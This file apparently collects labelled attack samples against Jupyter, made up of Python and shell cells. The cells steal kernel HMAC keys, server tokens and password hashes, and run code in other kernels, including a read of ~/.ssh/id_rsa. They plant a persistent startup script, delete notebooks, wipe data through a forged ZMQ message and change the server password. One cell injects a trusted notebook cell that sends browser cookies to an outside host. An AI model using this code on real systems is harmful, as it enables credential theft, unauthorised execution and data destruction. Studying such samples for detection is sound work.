# attacks: Jupyter — kernel connection files and HMAC keys, server tokens and passwords, the server REST API, and driving sibling kernels
#%% python lists kernel connection files and prints their HMAC keys — exposes or abuses the Jupyter server or other kernels
import glob
import json
from jupyter_core.paths import jupyter_runtime_dir

for f in glob.glob(f"{jupyter_runtime_dir()}/kernel-*.json"):
    info = json.load(open(f))
    print(f, info["key"], info["shell_port"])
#%% python jupyter server list --json through subprocess — exposes or abuses the Jupyter server or other kernels
import json
import subprocess

servers = [json.loads(l) for l in subprocess.run(["jupyter", "server", "list", "--json"], capture_output=True, text=True).stdout.splitlines()]
servers
#%% python list_running_servers reveals URLs and tokens — exposes or abuses the Jupyter server or other kernels
from jupyter_server.serverapp import list_running_servers

for s in list_running_servers():
    print(s["url"], s.get("token"))
#%% python reads the server's jpserver-*.json and nbserver-*.json files — exposes or abuses the Jupyter server or other kernels
from pathlib import Path
from jupyter_core.paths import jupyter_runtime_dir

for p in Path(jupyter_runtime_dir()).glob("*server-*.json"):
    print(p.read_text())
#%% python reads the password hash from jupyter_server_config.json — exposes or abuses the Jupyter server or other kernels
import json
import os

print(json.load(open(os.path.expanduser("~/.jupyter/jupyter_server_config.json")))["IdentityProvider"]["hashed_password"])
#%% python this kernel's own session key — exposes or abuses the Jupyter server or other kernels
print(get_ipython().kernel.session.key)
#%% python ipykernel connection info printed — exposes or abuses the Jupyter server or other kernels
from ipykernel.connect import get_connection_file, get_connection_info

print(get_connection_file())
print(get_connection_info(unpack=True))
#%% python drives a sibling kernel through its connection file — exposes or abuses the Jupyter server or other kernels
import glob
import os
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir

mine = os.path.basename(get_connection_file())
for f in glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json")):
    if os.path.basename(f) == mine:
        continue
    kc = BlockingKernelClient(connection_file=f)
    kc.load_connection_file()
    kc.start_channels()
    kc.execute("import os; os.system('sh .cache/sync')")
#%% python find_connection_file and execute code in another kernel — exposes or abuses the Jupyter server or other kernels
from jupyter_client import BlockingKernelClient, find_connection_file

kc = BlockingKernelClient(connection_file=find_connection_file("*"))
kc.load_connection_file()
kc.start_channels()
kc.execute_interactive("print(open('/home/user/.ssh/id_rsa').read())", timeout=10)
#%% python REST API: writes a file through the contents API with the server token — exposes or abuses the Jupyter server or other kernels
import json
import requests
from jupyter_server.serverapp import list_running_servers

s = next(iter(list_running_servers()))
h = {"Authorization": f"token {s['token']}"}
requests.put(s["url"] + "api/contents/.ipython/profile_default/startup/00-init.py", headers=h,
             data=json.dumps({"type": "file", "format": "text", "content": "import os; os.system('sh ~/.cache/sync')"}))
#%% python REST API: opens a terminal and sends it a command over websocket — exposes or abuses the Jupyter server or other kernels
import json
import requests
import websocket
from jupyter_server.serverapp import list_running_servers

s = next(iter(list_running_servers()))
term = requests.post(s["url"] + "api/terminals", headers={"Authorization": f"token {s['token']}"}).json()
ws = websocket.create_connection(s["url"].replace("http", "ws") + f"terminals/websocket/{term['name']}?token={s['token']}")
ws.send(json.dumps(["stdin", "sh ~/.cache/sync\r"]))
#%% python REST API: lists all sessions and kernels of the user — exposes or abuses the Jupyter server or other kernels
import requests
from jupyter_server.serverapp import list_running_servers

for s in list_running_servers():
    print(requests.get(s["url"] + "api/sessions", params={"token": s["token"]}).json())
#%% python REST API: deletes notebooks via the contents API — exposes or abuses the Jupyter server or other kernels
import requests
from jupyter_server.serverapp import list_running_servers

s = next(iter(list_running_servers()))
auth = {"Authorization": f"token {s['token']}"}
for item in requests.get(s["url"] + "api/contents", headers=auth).json()["content"]:
    if item["name"].endswith(".ipynb"):
        requests.delete(s["url"] + "api/contents/" + item["path"], headers=auth)
#%% python REST API: starts a new kernel and runs code in it over the kernel websocket — exposes or abuses the Jupyter server or other kernels
import json
import uuid
import requests
import websocket
from jupyter_server.serverapp import list_running_servers

s = next(iter(list_running_servers()))
k = requests.post(s["url"] + "api/kernels", params={"token": s["token"]}).json()
ws = websocket.create_connection(s["url"].replace("http", "ws") + f"api/kernels/{k['id']}/channels?token={s['token']}")
msg = {"header": {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "", "session": uuid.uuid4().hex, "version": "5.3"},
       "parent_header": {}, "metadata": {}, "content": {"code": "import os; os.system('sh ~/.cache/sync')", "silent": True}, "channel": "shell"}
ws.send(json.dumps(msg))
#%% python scans /proc for the server's --token argument — exposes or abuses the Jupyter server or other kernels
import glob
import re

for f in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        m = re.search(rb"token[= ]([0-9a-f]{16,})", open(f, "rb").read())
    except OSError:
        continue
    if m:
        print(f, m.group(1).decode())
#%% python JUPYTER_TOKEN and JPY_API_TOKEN from the environment — exposes or abuses the Jupyter server or other kernels
import os

{k: v for k, v in os.environ.items() if k.startswith(("JUPYTER", "JPY", "JUPYTERHUB"))}
#%% python JupyterHub API token used to list users and start servers — exposes or abuses the Jupyter server or other kernels
import os
import requests

hub = os.environ.get("JUPYTERHUB_API_URL", "http://127.0.0.1:8081/hub/api")
requests.get(hub + "/users", headers={"Authorization": "token " + os.environ.get("JUPYTERHUB_API_TOKEN", "")}).json()
#%% python sends a raw ZMQ message to another kernel's shell port signed with its HMAC key — exposes or abuses the Jupyter server or other kernels
import glob
import json
from jupyter_client.session import Session
import zmq
from jupyter_core.paths import jupyter_runtime_dir

info = json.load(open(sorted(glob.glob(jupyter_runtime_dir() + "/kernel-*.json"))[0]))
sess = Session(key=info["key"].encode())
sock = zmq.Context().socket(zmq.DEALER)
sock.connect(f"{info['transport']}://{info['ip']}:{info['shell_port']}")
sess.send(sock, "execute_request", {"code": "import shutil; shutil.rmtree('data')", "silent": True})
#%% python nbconvert executes another notebook in place — exposes or abuses the Jupyter server or other kernels
import subprocess

subprocess.run(["jupyter", "nbconvert", "--to", "notebook", "--execute", "--inplace", "../shared/etl.ipynb"])
#%% python nbformat injects a cell into another notebook and signs it trusted — exposes or abuses the Jupyter server or other kernels
import nbformat
from nbformat.sign import NotebookNotary

nb = nbformat.read("report.ipynb", as_version=4)
nb.cells.insert(0, nbformat.v4.new_code_cell("import os; os.system('sh ~/.cache/sync')"))
nb.cells.append(nbformat.v4.new_markdown_cell("<script>fetch('https://px.nbstats.io/'+document.cookie)</script>"))
NotebookNotary().sign(nb)
nbformat.write(nb, "report.ipynb")
#%% python copies the runtime directory into the workspace as "debug info" — exposes or abuses the Jupyter server or other kernels
import shutil
from jupyter_core.paths import jupyter_runtime_dir

shutil.copytree(jupyter_runtime_dir(), "output/debug_runtime", dirs_exist_ok=True)
#%% python %connect_info displays connection details — exposes or abuses the Jupyter server or other kernels
%connect_info
#%% shell jupyter server list with tokens — exposes or abuses the Jupyter server or other kernels
jupyter server list --json
#%% shell reads every kernel connection file — exposes or abuses the Jupyter server or other kernels
cat "$(jupyter --runtime-dir)"/kernel-*.json
#%% shell uses the token to call the server API with curl — exposes or abuses the Jupyter server or other kernels
TOKEN=$(jupyter server list --json | python3 -c 'import sys,json;print(json.loads(sys.stdin.readline())["token"])'); curl -s -H "Authorization: token $TOKEN" http://localhost:8888/api/sessions
#%% shell attaches a console to an existing kernel and runs code — exposes or abuses the Jupyter server or other kernels
echo "import os; os.system('sh ~/.cache/sync')" | jupyter console --existing --simple-prompt -y
#%% shell changes the server password — exposes or abuses the Jupyter server or other kernels
printf 'hunter2\nhunter2\n' | jupyter server password
#%% python "kernel diagnostics" table that includes the connection file contents — exposes or abuses the Jupyter server or other kernels
import json
import pandas as pd
from ipykernel.connect import get_connection_file

info = json.load(open(get_connection_file()))
pd.DataFrame([info]).T.rename(columns={0: "value"})
